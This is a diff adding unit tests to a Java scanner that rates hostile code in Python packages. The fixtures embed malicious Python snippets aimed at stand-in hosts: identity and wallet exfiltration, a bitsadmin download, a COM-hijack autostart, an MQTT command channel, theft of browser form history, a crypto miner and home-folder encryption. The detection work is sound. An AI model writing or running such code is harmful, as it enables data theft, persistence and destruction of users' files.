@@ -1279,6 +1279,134 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/paths.py", home))).isEmpty();
   }
 
+  @Test
+  void callsInsideAnFStringsFieldsAreCode() {
+    String label =
+        "import getpass, platform, requests\n"
+            + "label = f'{getpass.getuser()}.{platform.node()}'.encode().hex()\n"
+            + "requests.get('https://r.example/resolve', params={'name': f'{label}.t.example'})\n";
+    String greeting = "import getpass\nprint(f'Hello {getpass.getuser()}, {{braces}} stay text')\n";
+
+    assertThat(levelIn(label, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
+    // the user's name shown to the user is sent nowhere
+    assertThat(check(wheelWith("pkg/hello.py", greeting))).isEmpty();
+  }
+
+  @Test
+  void aComShellRunningADownloadedProgramIsCritical() {
+    String shell =
+        "import win32com.client\nsh = win32com.client.Dispatch('WScript.Shell')\n"
+            + "sh.Run(r'cmd /c bitsadmin /transfer j https://u.example/u.exe %TEMP%\\u.exe', 0)\n";
+    String excel = "import win32com.client\nxl = win32com.client.Dispatch('Excel.Application')\n";
+
+    assertThat(levelIn(shell, "downloads-executable")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/report.py", excel))).isEmpty();
+  }
+
+  @Test
+  void aCallOfACommandRunnerBuiltAsASyntaxTreeAndRunIsHigh() {
+    String tree =
+        "import ast\n"
+            + "call = ast.Call(func=ast.Attribute(value=ast.Name(id='os', ctx=ast.Load()),"
+            + " attr='system', ctx=ast.Load()), args=[ast.Constant(value=c)], keywords=[])\n"
+            + "exec(compile(ast.fix_missing_locations(ast.Module(body=[ast.Expr(call)],"
+            + " type_ignores=[])), '<x>', 'exec'))\n";
+    String rewriter =
+        "import ast\nnode = ast.Attribute(value=ast.Name(id='self', ctx=ast.Load()),"
+            + " attr='_reprcompare', ctx=ast.Load())\n"
+            + "exec(compile(tree, fn, 'exec'), module.__dict__)\n";
+
+    assertThat(levelIn(tree, "runs-built-syntax-tree")).isEqualTo(RiskLevel.HIGH);
+    // an assertion rewriter builds and runs trees of its own
+    assertThat(check(wheelWith("pkg/rewrite.py", rewriter))).isEmpty();
+  }
+
+  @Test
+  void aTelegramBotTokenForABotLibraryAndWalletFoldersSentAreCritical() {
+    String bot =
+        "import os, shutil, telebot\n"
+            + "bot = telebot.TeleBot('0000000000:placeholderplaceholderplaceholder00')\n"
+            + "for w in ('com.liberty.jaxx', 'Guarda', 'Armory'):\n"
+            + "    bot.send_document(1, open(shutil.make_archive(w, 'zip', os.path.join(a, w)), 'rb'))\n";
+    String echo =
+        "import os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
+            + "@bot.message_handler(commands=['start'])\ndef start(m):\n"
+            + "    bot.reply_to(m, 'hi')\n";
+
+    assertThat(levelIn(bot, "steals-and-sends")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/echo.py", echo))).isEmpty();
+  }
+
+  @Test
+  void aComClassServerRegisteredForTheUserIsAStartUpEntry() {
+    String hijack =
+        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
+            + " r'Software\\Classes\\CLSID\\{00000000-0000-0000-0000-000000000001}\\InprocServer32')\n"
+            + "winreg.SetValueEx(k, '', 0, winreg.REG_SZ, dll)\n";
+    String reader = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CLASSES_ROOT, r'CLSID')\n";
+
+    assertThat(levelIn(hijack, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/com.py", reader))).isEmpty();
+  }
+
+  @Test
+  void anMqttCallbackThatRunsItsMessageIsACommandChannel() {
+    String mqtt =
+        "import subprocess\nimport paho.mqtt.client as mqtt\n\n"
+            + "def on_msg(client, userdata, msg):\n"
+            + "    subprocess.run(msg.payload.decode(), shell=True)\n\n"
+            + "c = mqtt.Client()\nc.on_message = on_msg\nc.connect('b.example', 1883)\n";
+    String sensor =
+        "import json\nimport paho.mqtt.client as mqtt\n\n"
+            + "def on_msg(client, userdata, msg):\n    readings.append(json.loads(msg.payload))\n\n"
+            + "c = mqtt.Client()\nc.on_message = on_msg\n";
+
+    assertThat(levelIn(mqtt, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/sensor.py", sensor))).isEmpty();
+  }
+
+  @Test
+  void browserFilesPushedToAGitRemoteAreSent() {
+    String push =
+        "import glob, os, shutil, subprocess\n"
+            + "for db in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/formhistory.sqlite')):\n"
+            + "    shutil.copy(db, work)\n"
+            + "subprocess.run(['git', '-C', work, 'push', 'https://t@git.example/s.git', 'HEAD'])\n";
+    String release = "import subprocess\nsubprocess.run(['git', 'push', 'origin', 'main'])\n";
+
+    assertThat(levelIn(push, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/release.py", release))).isEmpty();
+  }
+
+  @Test
+  void aMinersPoolAddressIsHigh() {
+    String miner =
+        "import subprocess\nsubprocess.Popen([b, '-o', 'stratum+tcp://pool.example:3333',"
+            + " '--donate-level', '0'])\n";
+    String docs = "# Stratum is the protocol between miners and pools.\nPROTOCOL = 'stratum'\n";
+
+    assertThat(levelIn(miner, "crypto-miner")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/proto.py", docs))).isEmpty();
+  }
+
+  @Test
+  void homeFilesEncryptedAndDeletedAreRansomware() {
+    String ransom =
+        "import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\n"
+            + "for root, _, files in os.walk(os.path.expanduser('~/Documents')):\n"
+            + "    for n in files:\n        p = os.path.join(root, n)\n"
+            + "        open(p + '.x', 'wb').write(box.encrypt(open(p, 'rb').read()))\n"
+            + "        os.remove(p)\n";
+    String vault =
+        "import os\nfrom cryptography.fernet import Fernet\n"
+            + "def seal(path, key):\n    data = Fernet(key).encrypt(open(path, 'rb').read())\n"
+            + "    open(path + '.enc', 'wb').write(data)\n    os.remove(path)\n";
+
+    assertThat(levelIn(ransom, "encrypts-user-files")).isEqualTo(RiskLevel.HIGH);
+    // a tool that seals the one file it is given walks no one's home
+    assertThat(check(wheelWith("pkg/seal.py", vault))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
@@ -1389,7 +1517,8 @@ class ContentRuleTest {
     "modules by name,    'kb = importlib.import_module(\"pynput.keyboard\")\nkb.Listener(f)\n'",
     "setuptools runners, 'self.execute(os.system, (\"\" + '",
     "ping padding,       '[\"ping\", \"-p\", d[i:'",
-    "mouse listeners,    'mouse.Listener(on_click='"
+    "mouse listeners,    'mouse.Listener(on_click='",
+    "f-string fields,    'f\"{getpass.getuser()}{os.environ[\"\"]}\" + '"
   })
   void hostileRepetitionIsJudgedWithoutFailing(String shape, String piece) {
     // On one line: each piece's words occur a hundred thousand times there, which made the scan
